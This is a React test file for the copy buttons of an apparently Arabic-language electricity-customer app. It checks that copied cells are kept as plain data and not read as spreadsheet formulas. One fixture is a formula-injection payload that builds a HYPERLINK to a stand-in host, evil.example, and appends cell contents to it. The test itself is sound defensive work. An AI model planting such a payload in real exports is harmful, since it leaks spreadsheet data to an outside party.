import { render, screen, waitFor } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { kwhCustomer } from '../../../test/kwh-fixtures';
import { KwhCopyButtons } from './kwh-copy-buttons';

const HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"اضغط")';

// docs/copies-stay-data.md: a name holding a line feed or a tab before a formula, an address a carriage return
const customers = [
  kwhCustomer({ customerNumber: 1000, name: `\n${HYPERLINK}`, address: '\r=1+1', outstandingBalance: -5 }),
  kwhCustomer({ customerNumber: 1001, name: '\t=2+2', box: 'أ\tب', address: 'حي البركة\r\nقرب الجامع' }),
];

const isPlainNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

/** What the clipboard holds once the button is clicked. */
async function copied(button: string) {
  const user = userEvent.setup();
  render(<KwhCopyButtons customers={customers} />);
  await user.click(screen.getByRole('button', { name: button }));
  let text = '';
  await waitFor(async () => {
    text = await navigator.clipboard.readText();
    expect(text).not.toBe('');
  });
  return text;
}

describe('the kWh copy buttons (docs/copies-stay-data.md: copies stay data)', () => {
  it('copies the names one per line, each line text and not a formula', async () => {
    expect(await copied('نسخ الأسماء')).toBe(`'${HYPERLINK}\n'=2+2`);
  });

  it('copies a box holding a tab as one cell', async () => {
    expect(await copied('نسخ العلب')).toBe('5\nأ ب');
  });

  it('copies all the data as a header and one line per customer, every cell in its column and data', async () => {
    const lines = (await copied('نسخ جميع البيانات')).split('\n');

    expect(lines).toHaveLength(3);
    const rows = lines.map((line) => line.split('\t'));
    expect(rows.map((cells) => cells.length)).toEqual([15, 15, 15]);
    expect(rows.slice(1).map((cells) => cells.slice(0, 4))).toEqual([
      ['#1000', `'${HYPERLINK}`, '5', "'=1+1"],
      ['#1001', "'=2+2", 'أ ب', 'حي البركة قرب الجامع'],
    ]);
    expect(rows[1][13]).toBe('-5');
    for (const cell of rows.flat()) {
      if (!isPlainNumber(cell)) expect(cell).not.toMatch(/^\s*[=+\-@]/);
      expect(cell).not.toMatch(/\r/);
    }
  });
});
